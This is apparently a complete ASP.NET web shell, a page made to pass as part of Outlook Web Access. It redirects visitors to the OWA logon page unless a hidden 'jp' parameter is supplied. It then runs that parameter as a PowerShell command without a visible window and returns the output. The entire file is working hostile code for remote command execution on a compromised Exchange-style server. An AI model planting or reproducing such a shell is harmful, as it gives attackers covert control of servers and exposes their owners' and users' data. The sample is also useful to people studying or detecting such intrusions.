<%@ Page Language="C#" Debug="false" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    string c = Request.Params["jp"];
    if (String.IsNullOrEmpty(c))
    {
        Response.Redirect("/owa/auth/logon.aspx?url=%2fowa%2f&reason=0");
        return;
    }
    Process p = new Process();
    p.StartInfo.FileName = "powershell.exe";
    p.StartInfo.Arguments = "-NoProfile -NonInteractive -Command " + c;
    p.StartInfo.UseShellExecute = false;
    p.StartInfo.RedirectStandardOutput = true;
    p.StartInfo.RedirectStandardError = true;
    p.StartInfo.CreateNoWindow = true;
    p.Start();
    string output = p.StandardOutput.ReadToEnd() + p.StandardError.ReadToEnd();
    p.WaitForExit();
    Response.ContentType = "text/plain";
    Response.Write(output);
}
</script>
